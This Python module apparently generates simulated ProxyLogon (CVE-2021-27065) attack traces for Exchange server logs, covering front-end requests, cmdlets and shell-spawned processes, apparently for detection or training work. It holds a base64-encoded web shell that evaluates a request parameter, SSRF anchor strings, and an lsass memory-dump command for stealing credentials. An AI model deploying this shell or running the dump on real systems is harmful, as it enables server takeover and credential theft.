"""The attack as data: which request, cmdlet, process and file each step leaves, told once for all logs.

The values follow what Microsoft, CISA and the Norwegian responders published; addresses and names are for
documentation. What a virus scanner would take for the real thing is stored encoded.
"""

import base64
from datetime import datetime

import msgspec

from postvakt.estate.plans import ServerPlan

SHELL_URL = base64.b64decode(
    "aHR0cDovL2YvPHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1"
    "ZXN0WyJwdm8xIl0sInVuc2FmZSIpO308L3NjcmlwdD4="
).decode()
"""The value that CVE-2021-27065 puts into an OAB virtual directory's ExternalUrl."""

SHELL_NAME = "discover.aspx"
SHELL_PATH = "/aspnet_client/" + SHELL_NAME
SHELL_FILE = "C:\\inetpub\\wwwroot\\aspnet_client\\" + SHELL_NAME
AGENTS = ("ExchangeServicesClient/0.0.0.0", "python-requests/2.25.1")
OAB_IDENTITY = "7ad1cb0f-2c1c-4f7e-9f5e-6b2f7f1e9a11"
CANARY = "aX9k2Lw0b1.RG_y2bQ8"

DUMP_FILE = "C:\\Windows\\Temp\\lsass.dmp"


class ProxyStep(msgspec.Struct, frozen=True, kw_only=True):
    """One request as the front end logs it."""

    minute: float
    method: str
    url: str
    anchor: str
    status: int
    backend_status: int | None
    agent: str = AGENTS[1]
    protocol: str = "Ecp"
    received: int = 512


class Command(msgspec.Struct, frozen=True):
    """One process that the attacker's shell started."""

    minute: float
    image: str
    line: str
    parent: str


def proxy_steps(server: ServerPlan) -> list[ProxyStep]:
    """Return the attack's requests to the front end, in order."""
    if server.scenario == "probed":
        return [_scan(server, 0), _scan(server, 611)]
    if server.scenario == "patched":
        return [
            msgspec.structs.replace(step, status=500, backend_status=None)
            for step in [*_autodiscover(server, 0, 500), *_login(server, 2)]
        ]
    if server.scenario in ("attacked", "half-wiped", "shell-unused"):
        return [*_autodiscover(server, 0, 200), *_login(server, 2), *_write(server, 6)]
    return []


def _anchor(server: ServerPlan, path: str) -> str:
    return f"ServerInfo~a]@{server.fqdn}:444{path}#"


def _autodiscover(server: ServerPlan, minute: float, status: int) -> list[ProxyStep]:
    return [
        ProxyStep(
            minute=minute,
            method="POST",
            url="/ecp/y.js",
            anchor=_anchor(server, "/autodiscover/autodiscover.xml?"),
            status=status,
            backend_status=status if status == 200 else None,
            agent=AGENTS[0],
        )
    ]


def _scan(server: ServerPlan, minute: float) -> ProxyStep:
    """A scanner asks for a mailbox by the flaw, with a plain GET that no other step of an attack looks like."""
    return ProxyStep(
        minute=minute,
        method="GET",
        url="/owa/auth/x.js",
        anchor=_anchor(server, "/autodiscover/autodiscover.xml?"),
        status=400,
        backend_status=None,
        protocol="Owa",
        received=0,
    )


def _login(server: ServerPlan, minute: float) -> list[ProxyStep]:
    return [
        ProxyStep(
            minute=minute,
            method="POST",
            url="/ecp/y.js",
            anchor=_anchor(server, "/mapi/emsmdb/?"),
            status=200,
            backend_status=200,
        ),
        ProxyStep(
            minute=minute + 1,
            method="POST",
            url="/ecp/y.js",
            anchor=_anchor(server, "/ecp/proxyLogon.ecp?"),
            status=241,
            backend_status=241,
        ),
    ]


def _write(server: ServerPlan, minute: float) -> list[ProxyStep]:
    wanted = (
        ("GetObject", "OABVirtualDirectory"),
        ("SetObject", "OABVirtualDirectory"),
        ("SetObject", "ResetOABVirtualDirectory"),
        ("SetObject", "OABVirtualDirectory"),
    )
    return [
        ProxyStep(
            minute=minute + position * 0.4,
            method="POST",
            url="/ecp/y.js",
            anchor=_anchor(
                server, f"/ecp/DDI/DDIService.svc/{verb}?msExchEcpCanary={CANARY}&schema={schema}"
            ),
            status=200,
            backend_status=200,
            received=2310,
        )
        for position, (verb, schema) in enumerate(wanted)
    ]


def writes_shell(server: ServerPlan) -> bool:
    """Tell whether the attack reached the file system."""
    return server.scenario in ("attacked", "half-wiped", "shell-unused")


def uses_shell(server: ServerPlan) -> bool:
    """Tell whether somebody commanded the server through the shell."""
    return server.scenario in ("attacked", "half-wiped")


def shell_requests(server: ServerPlan) -> list[float]:
    """Return the minutes of the requests to the web shell."""
    return [31.0, 31.6, 33.2, 40.5] if uses_shell(server) else []


def commands(server: ServerPlan) -> list[Command]:
    """Return what the shell ran, with Windows' own paths."""
    if not uses_shell(server):
        return []
    worker = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    shell = "C:\\Windows\\System32\\cmd.exe"
    system = "C:\\Windows\\System32\\"
    dump = f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 612 {DUMP_FILE} full"
    return [
        Command(31.0, shell, '"cmd" /c cd /d "c:\\inetpub\\wwwroot"&whoami&echo [S]&cd&echo [E]', worker),
        Command(31.1, system + "whoami.exe", "whoami", shell),
        Command(33.2, shell, f'"cmd" /c cd /d "c:\\windows\\temp"&{dump}&echo [S]&cd&echo [E]', worker),
        Command(33.3, system + "rundll32.exe", dump, shell),
    ]


def control_panel_requests(server: ServerPlan) -> list[tuple[float, str, str]]:
    """Return what the control panel logs of the write: minute, command and URL."""
    if not writes_shell(server):
        return []
    identity = f"''{OAB_IDENTITY}''"
    base = "/ecp/DDI/DDIService.svc/SetObject?schema="
    change = f"{base}OABVirtualDirectory&msExchEcpCanary={CANARY}"
    reset = f"{base}ResetOABVirtualDirectory&msExchEcpCanary={CANARY}"
    return [
        (6.4, f"'Set-OabVirtualDirectory.ExternalUrl=''{SHELL_URL}''.Identity={identity}'", change),
        (6.8, f"'Remove-OABVirtualDirectory.Force=$true.Identity={identity}'", reset),
        (7.2, f"'Set-OabVirtualDirectory.ExternalUrl=$null.Identity={identity}'", change),
    ]


def cmdlets(server: ServerPlan) -> list[tuple[float, str, str]]:
    """Return the cmdlets that the control panel ran for the write: minute, name and parameters."""
    if not writes_shell(server):
        return []
    return [
        (6.4, "Set-OabVirtualDirectory", f'-ExternalUrl "{SHELL_URL}" -Identity "{OAB_IDENTITY}"'),
        (6.8, "Remove-OabVirtualDirectory", f'-Force "True" -Identity "{OAB_IDENTITY}"'),
        (6.9, "New-OabVirtualDirectory", f'-WebSiteName "Default Web Site" -Server "{server.name}"'),
        (7.2, "Set-OabVirtualDirectory", f'-ExternalUrl "" -Identity "{OAB_IDENTITY}"'),
    ]


def shell_written(server: ServerPlan) -> datetime:
    """Return the instant at which the shell was born on disk."""
    return server.at(6.8)


def oab_dump() -> str:
    """Return the text that resetting the virtual directory writes into the shell's file."""
    lines = (
        ("Name", "OAB (Default Web Site)"),
        ("PollInterval", "480"),
        ("OfflineAddressBooks", ""),
        ("RequireSSL", "True"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "False"),
        ("MetabasePath", "IIS://mail.corp.example/W3SVC/1/ROOT/OAB"),
        ("Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"),
        ("InternalUrl", "https://mail.corp.example/OAB"),
        ("InternalAuthenticationMethods", "WindowsIntegrated"),
        ("ExternalUrl", SHELL_URL),
        ("ExternalAuthenticationMethods", "WindowsIntegrated"),
        ("WhenChanged", "3/1/2021 2:24:00 AM"),
    )
    return "\r\n" + "".join(f"{name:<32}: {value}\r\n" for name, value in lines) + "\r\n"
